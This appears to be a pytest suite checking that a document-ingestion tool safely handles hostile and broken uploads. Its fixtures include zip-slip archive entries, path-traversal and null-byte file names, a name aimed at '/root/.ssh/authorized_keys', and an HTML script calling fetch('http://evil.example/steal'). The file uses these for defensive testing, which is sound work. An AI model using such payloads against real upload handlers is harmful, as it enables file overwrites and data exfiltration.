"""Uploads (issue 9, case 1): hostile and broken files beyond tests/test_ingest.py.

Every bad file gets its own clear error (or is handled correctly), the good files of the same
upload are ingested, and nothing is written outside the workspace's `files/` folder.
"""

from __future__ import annotations

import io
import json
import os
import resource
import time
import zipfile
from pathlib import Path

import pytest

from core.cli import main as cli_main
from core.documents import list_chunks, list_documents
from core.ingest import ingest_files
from tests.helpers import LOREM, make_docx, make_pdf

GOOD = ("good.txt", LOREM.encode())


def _tree(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*")}


def _docx_with(parts: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _zip_slip_docx() -> bytes:
    """A real .docx with extra entries named ../../evil.txt and /tmp/evil-abs.txt."""
    src = zipfile.ZipFile(io.BytesIO(make_docx([("Rules", LOREM)])))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for info in src.infolist():
            zf.writestr(info, src.read(info))
        zf.writestr("../../evil.txt", b"escaped")
        zf.writestr("/tmp/embstudio-evil-abs.txt", b"escaped")
    return buf.getvalue()


def _nested_html(levels: int) -> bytes:
    return (
        b"<html><head><script>document.write('x')</script></head><body>"
        b"<script>fetch('http://evil.example/steal')</script>"
        + b"<div>" * levels
        + b"deep text"
        + b"</div>" * levels
        + b"</body></html>"
    )


# (name, bytes, expected status, a word the error must contain)
BAD_CASES = [
    ("random.pdf", os.urandom(4096), "error", "not a PDF"),
    ("header-only.pdf", b"%PDF-1.7\n", "error", "damaged"),
    ("zero.pdf", b"", "error", "empty"),
    ("zero.docx", b"", "error", "empty"),
    ("blank.html", b"  \r\n\t  ", "error", "empty"),
    (
        "scripts-only.html",
        b"<script>alert(1)</script><style>p{color:red}</style>",
        "error",
        "no text",
    ),
    ("nested.html", _nested_html(2_000_000), "error", "nested"),
    ("nul-inside.txt", b"some text\x00\x00more text" * 50, "error", "binary"),
    ("zipped.txt", _docx_with({"a.txt": LOREM.encode()}), "error", "binary"),
    ("pdf-as.txt", make_pdf([LOREM]), "error", "binary"),
    (
        "no-body.docx",
        _docx_with({"[Content_Types].xml": b"<Types/>"}),
        "error",
        "not a valid .docx",
    ),
    (
        "bad-xml.docx",
        _docx_with({"word/document.xml": b"<w:document><unclosed"}),
        "error",
        "malformed",
    ),
    ("", LOREM.encode(), "error", "unsupported file type"),
    ("..", LOREM.encode(), "error", "unsupported file type"),
    ("evil.txt\x00.exe", LOREM.encode(), "error", "unsupported file type"),
    ("noext", LOREM.encode(), "error", "unsupported file type"),
]


@pytest.mark.parametrize(("name", "data", "status", "word"), BAD_CASES, ids=lambda v: None)
def test_each_bad_file_fails_alone_with_its_reason(ws, name, data, status, word):
    t0 = time.monotonic()
    results = ingest_files(ws, [(name, data), GOOD])
    assert time.monotonic() - t0 < 30, "a bad file must not stall the upload"
    assert results[0].status == status
    assert word.lower() in (results[0].error or "").lower(), results[0].error
    assert results[1].status == "ingested"
    assert [d.name for d in list_documents(ws)] == ["good.txt"]
    assert [p.name.split("-", 1)[1] for p in ws.files_dir.iterdir()] == ["good.txt"]


def test_damaged_encodings_are_decoded_not_garbled(ws):
    utf8_damaged = "Prüfungsordnung: die Klausur ist im Mai. ".encode() * 5 + b"\xff\xfe\x80 end."
    utf16_be = ("\ufeff" + "Große Übung: " + LOREM).encode("utf-16-be")
    utf8_bom = ("\ufeff# Überblick\n\n" + LOREM).encode("utf-8")
    results = ingest_files(ws, [("a.txt", utf8_damaged), ("b.txt", utf16_be), ("c.md", utf8_bom)])
    assert [r.status for r in results] == ["ingested"] * 3, [r.error for r in results]
    text = " ".join(c["text"] for c in list_chunks(ws))
    assert "Prüfungsordnung" in text and "\ufffd" in text  # accents kept, bad bytes marked
    assert "Große Übung" in text
    assert "\ufeff" not in text
    md = [c for c in list_chunks(ws) if "Students must" in c["text"]]
    assert md


def test_archive_members_are_never_extracted(ws, tmp_path):
    before = _tree(tmp_path)
    r = ingest_files(ws, [("slip.docx", _zip_slip_docx())])[0]
    assert r.status == "ingested", r.error
    assert not Path("/tmp/embstudio-evil-abs.txt").exists()
    created = _tree(tmp_path) - before
    assert all(p.startswith("ws/files/") for p in created), created


@pytest.mark.parametrize(
    "name",
    [
        "..\\..\\..\\windows-escape.txt",
        "C:\\Windows\\System32\\drivers.txt",
        "/root/.ssh/authorized_keys.txt",
        "../" * 40 + "deep.txt",
        "line\nbreak\r\tname.txt",
        "é" * 300 + ".md",
        "\u202etxt.md",
        "con.txt",
        ".hidden.txt",
    ],
)
def test_hostile_names_stay_in_files_folder(ws, tmp_path, name):
    before = _tree(tmp_path)
    r = ingest_files(ws, [(name, f"{name!r} {LOREM}".encode())])[0]
    assert r.status == "ingested", r.error
    created = _tree(tmp_path) - before
    assert created and all(p.startswith("ws/files/") for p in created), created
    (stored,) = ws.files_dir.iterdir()
    assert stored.resolve().parent == ws.files_dir.resolve()
    assert len(stored.name.encode()) < 255  # a valid file name on every file system
    assert not any(ch in stored.name for ch in "/\\\x00\n\r\t")
    assert r.file == list_documents(ws)[0].name


def test_duplicates_in_one_upload_and_same_name_different_content(ws):
    other = b"A different text about the library opening hours on weekends and holidays. " * 3
    results = ingest_files(
        ws,
        [("a.txt", LOREM.encode()), ("a-copy.txt", LOREM.encode()), ("a.txt", other)],
    )
    assert [r.status for r in results] == ["ingested", "duplicate", "ingested"]
    assert results[1].document_id == results[0].document_id
    docs = list_documents(ws)
    assert len(docs) == 2
    # Same name, different bytes: two stored originals, neither overwritten.
    stored = {(ws.root / d.stored_path).read_bytes() for d in docs}
    assert stored == {LOREM.encode(), other}


def test_size_limit_is_exact_and_checked_before_parsing(ws):
    limit_mb = 0.01  # 10,485.76 bytes
    at_limit = (LOREM + " ").encode() * 40
    at_limit = at_limit[: int(limit_mb * 1024 * 1024)]
    over = b"%PDF-1.4 " + b"x" * int(limit_mb * 1024 * 1024)  # refused by size, not by parsing
    results = ingest_files(ws, [("at.txt", at_limit), ("over.pdf", over)], max_file_mb=limit_mb)
    assert results[0].status == "ingested", results[0].error
    assert results[1].status == "error" and "limit" in results[1].error


def test_one_giant_word_is_chunked_within_the_token_limit(ws):
    blob = ("x" * 100_000 + " " + LOREM).encode()
    t0 = time.monotonic()
    r = ingest_files(ws, [("blob.md", blob), GOOD])
    assert time.monotonic() - t0 < 60
    assert r[0].status == r[1].status == "ingested", r[0].error
    chunks = list_chunks(ws, r[0].document_id)
    assert chunks and all(c["n_tokens"] <= 256 for c in chunks)


def test_disk_full_while_storing_is_reported_per_file(ws):
    # RLIMIT_FSIZE makes writes past the size fail with EFBIG, as a full disk fails with ENOSPC
    # (root ignores file modes, so a read-only folder cannot be simulated here).
    big = (LOREM + "\n").encode() * 400  # ~110 KB
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (64 * 1024, hard))
    try:
        results = ingest_files(ws, [("big.txt", big), GOOD])
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
    assert results[0].status == "error" and "cannot store" in results[0].error
    assert results[1].status == "ingested"
    assert [d.name for d in list_documents(ws)] == ["good.txt"]
    assert not [p for p in ws.files_dir.iterdir() if p.name.endswith(".part")]


def test_cli_ingest_mixed_folder_reports_each_file(ws, tmp_path, capsys):
    folder = tmp_path / "upload"
    folder.mkdir()
    (folder / "good.md").write_bytes(f"# Rules\n\n{LOREM}".encode())
    (folder / "empty.txt").write_bytes(b"")
    (folder / "fake.pdf").write_bytes(b"not a pdf at all")
    (folder / "nested.html").write_bytes(_nested_html(5000))
    rc = cli_main(["ingest", str(ws.root), str(folder), "--json"])
    out = capsys.readouterr()
    assert rc == 0, out.err
    payload = json.loads(out.out)
    by_file = {r["file"]: r for r in payload["results"]}
    assert by_file["good.md"]["status"] == "ingested"
    assert payload["errors"] == 3
    assert all(by_file[n]["error"] for n in ("empty.txt", "fake.pdf", "nested.html"))

    # Only bad files: non-zero exit, still one result per file, no traceback.
    rc = cli_main(["ingest", str(ws.root), str(folder / "empty.txt")])
    out = capsys.readouterr()
    assert rc == 1 and "Traceback" not in out.err + out.out


def test_documents_page_upload_of_a_hostile_batch(ws, tmp_path):
    from streamlit.testing.v1 import AppTest

    from tests.conftest import REPO

    before = _tree(tmp_path)
    at = AppTest.from_file(str(REPO / "pages" / "1_Documents.py"), default_timeout=120)
    at.session_state["workspace_path"] = str(ws.root)
    at.run()
    batch = [
        ("../../escape.md", f"# Escape\n\n{LOREM}".encode(), "text/markdown"),
        ("nested.html", _nested_html(100_000), "text/html"),
        ("random.pdf", os.urandom(2048), "application/pdf"),
        ("good.txt", LOREM.encode(), "text/plain"),
        ("good-again.txt", LOREM.encode(), "text/plain"),
    ]
    at.file_uploader(key="docs_uploader").set_value(batch).run()
    at.button(key="docs_ingest").click().run()
    assert not at.exception
    errors = [e.value for e in at.error]
    assert any(e.startswith("nested.html:") and "nested" in e for e in errors), errors
    assert any(e.startswith("random.pdf:") and "not a PDF" in e for e in errors), errors
    assert any("already in the workspace" in i.value for i in at.info)
    assert sorted(d.name for d in list_documents(ws)) == ["escape.md", "good.txt"]
    assert all(p.startswith("ws/") for p in _tree(tmp_path) - before)
